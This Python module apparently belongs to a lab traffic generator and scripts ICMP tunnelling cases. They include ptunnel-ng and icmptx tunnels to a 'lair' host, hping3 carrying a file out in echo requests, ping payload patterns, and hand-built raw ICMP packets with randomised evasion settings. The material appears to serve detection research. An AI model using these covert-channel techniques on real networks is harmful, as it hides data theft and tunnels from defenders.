"""Tunnels in echo requests: ptunnel-ng, icmptx, what ping and hping3 carry, our own."""

import socket
import struct
import threading

from attacks.tunnel import far_program, use
from attacks.way import Way
from pcap import checksum
from topology import ip

ICMPTX = threading.Lock()  # its far end takes every echo request of its host


def ptunnel(act):
    lair, port = act.lair, act.rng.randrange(20000, 30000)
    web = lair.port["http"]

    def work():
        act.spawn(["ptunnel-ng", "-p", lair.v4, "-l", port, f"-r{lair.v4}", f"-R{web}", "-v", "0",
                   *act.pick("evasion", [[], ["-w", "4"], ["-a", "500"], ["-m", "0x12345678"]])])
        if act.pause(0.7):
            use(act, "127.0.0.1", port)

    far_program(act, ["ptunnel-ng", f"-r{lair.v4}", f"-R{web}", "-v", "0"], work)


def icmptx(act):
    lair = act.lair
    if not ICMPTX.acquire(timeout=1):
        raise OSError("icmptx is in use")
    try:
        def work():
            act.spawn(["icmptx", "-c", lair.v4])
            if not act.pause(0.5):
                return
            for host, address in ((lair, "100.65.0.1"), (act.host, "100.65.0.2")):
                ip("-n", host.name, "addr", "add", f"{address}/24", "dev", "tun0")
                ip("-n", host.name, "link", "set", "tun0", "up", "mtu", "1300")
            use(act, "100.65.0.1", lair.port["http"])

        far_program(act, ["icmptx", "-s", lair.v4], work)
    finally:
        ICMPTX.release()


def hping(act):
    """A file carried up in echo requests."""
    lair = act.lair
    act.run(["hping3", "-q", "-n", "-1", "-d", act.pick("bytes", [64, 200, 900]), "-E", act.scratch(40_000), "-i",
             act.pick("interval", ["u20000", "u100000", "1"]), lair.v4])


def ping(act):
    """A script that hides bytes in the pattern of ping."""
    lair, size = act.lair, act.pick("bytes", [56, 120, 500])
    for _ in act.every(act.draw("period_s", 0.1, 3.0), act.pick("jitter", [0, 0.5])):
        act.run(["ping", "-q", "-n", "-c", "1", "-W", "1", "-s", size, "-p", act.rng.randbytes(16).hex(), lair.v4], 3)


def own(act):
    """Any size and pace, one identifier or many, random bytes or a text."""
    lair, rng = act.lair, act.rng
    size, fixed = act.pick("bytes", [16, 56, 200, 1000]), act.pick("identifier", ["one", "many"]) == "one"
    spread, identifier = act.pick("size_jitter", [0, 0.5, 1.0]), rng.randrange(1, 65536)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
        for number in act.every(act.draw("period_s", 0.02, 2.0), act.pick("jitter", [0, 0.3, 0.9])):
            data = rng.randbytes(max(4, int(size * (1 + rng.uniform(-spread, spread)))))
            head = struct.pack("!BBHHH", 8, 0, 0, identifier if fixed else rng.randrange(1, 65536), number & 0xFFFF)
            out.sendto(head[:2] + struct.pack("!H", checksum(head + data)) + head[4:] + data, (lair.v4, 0))


F, LONG = "icmp_tunnel", (10, 28)
CASES = [("ptunnel-ng", ptunnel), ("icmptx", icmptx), ("hping3", hping), ("ping", ping), ("ours", own)]
WAYS = [Way(F, tool, "tunnel", act, seconds=LONG) for tool, act in CASES]
WAYS += [Way(F, tool, "tunnel", act, by="client", seconds=LONG) for tool, act in CASES if tool in ("ping", "ours")]
TOOLS = {"ptunnel-ng": "ptunnel-ng", "icmptx": "icmptx", "hping3": "hping3", "ping": "iputils-ping", "ours": "ours"}
